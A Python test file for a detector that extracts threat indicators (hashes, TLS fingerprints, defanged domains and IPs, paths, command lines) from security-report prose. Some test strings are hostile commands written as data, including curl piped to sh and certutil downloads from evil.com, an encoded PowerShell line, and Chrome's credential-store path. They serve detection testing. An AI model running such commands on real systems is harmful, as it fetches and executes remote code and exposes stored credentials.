"""Every type that can stand in prose, each with what only looks like it."""

import hashlib

import pytest

from probandum.detectors.indicators import IndicatorDetector
from probandum.detectors.signs import lower
from probandum.interfaces import Batch
from probandum.model.exhibit import Locator
from probandum.model.ident import digest
from probandum.model.observation import Observation, Span, Text
from probandum.model.pack import Pack

EMPTY = Pack("p", "1", "", {}, False, (), (), (), (), (), (), ())
MD5 = hashlib.md5(b"x").hexdigest()
HEX = hashlib.sha512(b"x").hexdigest()


def run(content: str) -> list[Observation]:
    span = Span(0, len(content), Locator("char", 0, len(content)))
    text = Text(digest(content.encode()), "t/1", content, (span,))
    found = IndicatorDetector().detect(Batch((text,)), EMPTY)
    return [item for item in found if isinstance(item, Observation)]


def found(content: str, *kinds: str) -> list[tuple[str, str]]:
    return [(item.kind, item.value) for item in run(content) if not kinds or item.kind in kinds]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (f"SHA224 {HEX[:56]}", [("file", f"sha224:{HEX[:56]}")]),
        (f"SHA-384: {HEX[:96]}", [("file", f"sha384:{HEX[:96]}")]),
        (f"SHA3-256: {HEX[:64]}", [("file", f"sha3-256:{HEX[:64]}")]),
        (f"Authentihash {HEX[:64]}", [("file", f"authentihash:{HEX[:64]}")]),
        (f"TLSH T1{HEX[:70].upper()}", [("file", f"tlsh:t1{HEX[:70]}")]),
        (f"tlsh: {HEX[:70]}", [("file", f"tlsh:{HEX[:70]}")]),
        ("ssdeep 96:abcdEFGH12345678:ijkl+MNOP", [("file", "ssdeep:96:abcdEFGH12345678:ijkl+MNOP")]),
        (f"JA3: {MD5}", [("network-traffic", f"ja3:{MD5}")]),
        (f"JA3S hash {MD5}", [("network-traffic", f"ja3s:{MD5}")]),
        (f"JARM {HEX[:62]}", [("network-traffic", f"jarm:{HEX[:62]}")]),
        (
            "t13d1516h2_8daaf6152771_e5627efa2ab1",
            [("network-traffic", "ja4:t13d1516h2_8daaf6152771_e5627efa2ab1")],
        ),
        (f"Certificate thumbprint: {HEX[:40]}", [("x509-certificate", f"sha1:{HEX[:40]}")]),
        (
            "TLS certificate, serial number 04:11:17:a2:9a:27:b3:b4",
            [("x509-certificate", "serial:041117a29a27b3b4")],
        ),
        (
            "GHSA-jfh8-c2jp-5v3q and MS17-010",
            [("vulnerability", "GHSA-jfh8-c2jp-5v3q"), ("vulnerability", "MS17-010")],
        ),
        (
            "cpe:2.3:a:vendor:product:1.0:*:*:*:*:*:*:*",
            [("software", "cpe:2.3:a:vendor:product:1.0:*:*:*:*:*:*:*")],
        ),
        ("cpe:/o:vendor:system:10", [("software", "cpe:/o:vendor:system:10")]),
        (
            "S-1-5-21-1004336348-1177238915-682003330-512",
            [("user-account", "S-1-5-21-1004336348-1177238915-682003330-512")],
        ),
        ("00-1A-2b-3c-4d-5e", [("mac-addr", "00:1a:2b:3c:4d:5e")]),
        ("00:1A:2B:3C:4D:5E.", [("mac-addr", "00:1a:2b:3c:4d:5e")]),
        ("203[.]0.113.7:4443", [("network-traffic", "203.0.113.7:4443"), ("ipv4-addr", "203.0.113.7")]),
        ("evil[.]com:8080 (tcp)", [("network-traffic", "evil.com:8080/tcp"), ("domain-name", "evil.com")]),
        ("203.0.113.7[:]53/UDP", [("network-traffic", "203.0.113.7:53/udp"), ("ipv4-addr", "203.0.113.7")]),
        ("198.51.100.1-198.51.100.9", [("ipv4-addr", "198.51.100.1"), ("ipv4-addr", "198.51.100.9")]),
        ("a evil.com-based server", [("domain-name", "evil.com")]),
        ("![x](//cdn.evil.com/a.png)", [("url", "cdn.evil.com/a.png"), ("domain-name", "cdn.evil.com")]),
        ("203.0.113.7/85abcde.exe", [("url", "203.0.113.7/85abcde.exe"), ("ipv4-addr", "203.0.113.7")]),
        ("pipe \\\\.\\pipe\\mojo_1", [("x-named-pipe", "mojo_1")]),
        ("a service named “AcmeSvc7”", [("x-service", "AcmeSvc7")]),
        ("the scheduled task called `Updates`", [("x-scheduled-task", "Updates")]),
        ("rule APT_Loader_1 : apt { strings: }", [("x-yara-rule", "APT_Loader_1")]),
        ("the username “svc_backup1”", [("user-account", "svc_backup1")]),
        ("on Telegram as @dark_seller", [("user-account", "dark_seller")]),
        ("with the subject line “Your invoice 7”", [("email-message", "subject:Your invoice 7")]),
        (
            "Message-ID: <20200101.A1@mail.evil.com>",
            [("email-addr", "20200101.a1@mail.evil.com"), ("email-message", "20200101.A1@mail.evil.com")],
        ),
        ("![](/img/a%20b.png) 100%20c.exe", []),
        (
            "UserAgent: Mozilla/4.0 (Windows XP 5.1) Java/1.6.0\\_07",
            [("x-user-agent", "Mozilla/4.0 (Windows XP 5.1) Java/1.6.0_07")],
        ),
        ("it dropped evil.exe, then", [("file", "name:evil.exe")]),
        ("it dropped “Quarterly report 7.docx”", [("file", "name:Quarterly report 7.docx")]),
        ("it dropped my\\_tool.ps1", [("file", "name:my_tool.ps1")]),
        ("the folder C:\\ProgramData\\Sync", [("directory", "C:\\ProgramData\\Sync")]),
        ("in C:\\ProgramData\\Sync\\ there", [("directory", "C:\\ProgramData\\Sync")]),
        ("the `/tmp/.x11` directory", [("directory", "/tmp/.x11")]),
    ],
)
def test_types(content: str, expected: list[tuple[str, str]]) -> None:
    assert found(content) == expected


@pytest.mark.parametrize(
    ("written", "path"),
    [
        ("C:\\Program Files", "C:\\Program Files"),
        ("C:\\Program Files (x86)\\Acme Corp\\my tool.exe", "C:\\Program Files (x86)\\Acme Corp\\my"),
        ("C:\\Users\\Public\\Adobe Reader Update.exe", "C:\\Users\\Public\\Adobe Reader Update.exe"),
        ("C:\\Documents and Settings\\All Users\\a.dll", "C:\\Documents and Settings\\All Users\\a.dll"),
        ("%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data", "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data"),
        ("C:\\Temp\\a.exe Then", "C:\\Temp\\a.exe"),
        ("C:\\Temp\\a and then b.exe", "C:\\Temp\\a"),
    ],
)  # fmt: skip
def test_a_path_goes_on_over_spaces_where_something_says_so(written: str, path: str) -> None:
    (first, *_) = run(f"It copies itself to {written} and stays.")
    assert first.value.removeprefix("path:") == path


@pytest.mark.parametrize("quotes", ["“”", '""', "``", "‘’", "''"])
def test_a_path_in_quotes_is_whole(quotes: str) -> None:
    (first, *_) = run(f"copied to {quotes[0]}C:\\My Files\\a tool for you.bin{quotes[1]}, then")
    assert first.value == "path:C:\\My Files\\a tool for you.bin"


def test_a_command_in_quotes_is_no_path() -> None:
    items = run('runs "C:\\Windows\\a.exe /c del x" at once')
    assert ("file", "path:C:\\Windows\\a.exe") in [(item.kind, item.value) for item in items]
    assert ("process", "C:\\Windows\\a.exe /c del x") in [(item.kind, item.value) for item in items]


@pytest.mark.parametrize(
    ("content", "value"),
    [
        ("见C:\\a\\b.exe文件", "path:C:\\a\\b.exe"),
        ("文件/tmp/a.sh已删除", "path:/tmp/a.sh"),
        ("邮箱a@evil.com。", "a@evil.com"),
        ("地址：203.0.113.7、", "203.0.113.7"),
        ("的域名是evil[.]com，", "evil.com"),
        (f"哈希值{MD5}。", f"md5:{MD5}"),
        (f"| {MD5} | evil.com |", f"md5:{MD5}"),
        ("|evil.com|203.0.113.7|", "evil.com"),
        ("|**evil[.]com**|`C:\\x\\y.exe`|", "evil.com"),
        ("| HKCU\\Software\\X Y\\Z | a |", "HKEY_CURRENT_USER\\Software\\X Y\\Z"),
    ],
)
def test_other_scripts_and_tables_around_it(content: str, value: str) -> None:
    assert run(content)[0].value == value


@pytest.mark.parametrize(
    "line",
    [
        "`cmd.exe /c whoami`",
        "“powershell -nop -enc SQBFAFgA”",
        "\nschtasks /create /tn x /tr C:\\x.exe\n",
        "\n$ curl -s http://evil.com/x | sh\n",
        "\nC:\\Temp>certutil -urlcache -f http://evil.com/x x.exe\n",
        "`rundll32.exe x.dll,Start`",
    ],
)
def test_command_lines(line: str) -> None:
    ((_, value),) = found(line, "process")
    assert value == line.strip("`“”\n").removeprefix("$ ").removeprefix("C:\\Temp>")


@pytest.mark.parametrize(
    "line", ["`command`", "“The net is wide.”", "\nCurl is a tool. It is old\n", "`net gain of 5`"]
)
def test_what_is_no_command_line(line: str) -> None:
    assert found(line, "process") == []


@pytest.mark.parametrize(
    ("written", "note"),
    [
        ("раypal.com", "mixes scripts"),
        ("пример.рф", ""),
        ("münchen.de", ""),
        ("vww6ybal4bd7szmgncyruucpgfkqahzddi37ktceo3ah7ngmcopnpyyd.onion", "checksum holds"),
        ("vww6ybal4bd7szmgncyruucpgfkqahzddi37ktceo3ah7ngmcopnpyyc.onion", "checksum does not hold"),
        ("abcdefghij234567.onion", "no longer served"),
    ],
)
def test_what_the_spelling_of_a_host_says(written: str, note: str) -> None:
    (item,) = run(f"see {written} there")
    assert (item.surface or item.value) == written
    assert note in item.note
    assert ("scripts" in item.note) == ("scripts" in note)


def test_the_tail_of_a_link_is_no_part_of_it() -> None:
    for tail in (")or", ")™", ")**tactic", "·", "’"):
        (url, _) = run(f"see https://evil.com/a{tail} then")
        assert url.value == "https://evil.com/a"


def test_an_address_of_code_in_a_path_is_read_after_its_escape() -> None:
    content = f"q=https%3A%2F%2Fwww.virustotal.com%2Ffile%2F{HEX[:64]}%2Fanalysis"
    assert ("file", f"sha256:{HEX[:64]}") in found(content)
    assert ("domain-name", "www.virustotal.com") in found(content)


def test_mixed_case_ether_is_checked() -> None:
    good = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"
    (held,) = run(f"to {good} now")
    (other,) = run(f"to {good[:-1]}D now")
    assert "EIP-55" in held.note
    assert held.authenticity > other.authenticity


def test_lower_case_keeps_its_places() -> None:
    assert lower("İA Mutex ẞ") == "İa mutex ß"
    (item,) = found("İİİ the mutex “Ab_12”", "mutex")
    assert item == ("mutex", "Ab_12")
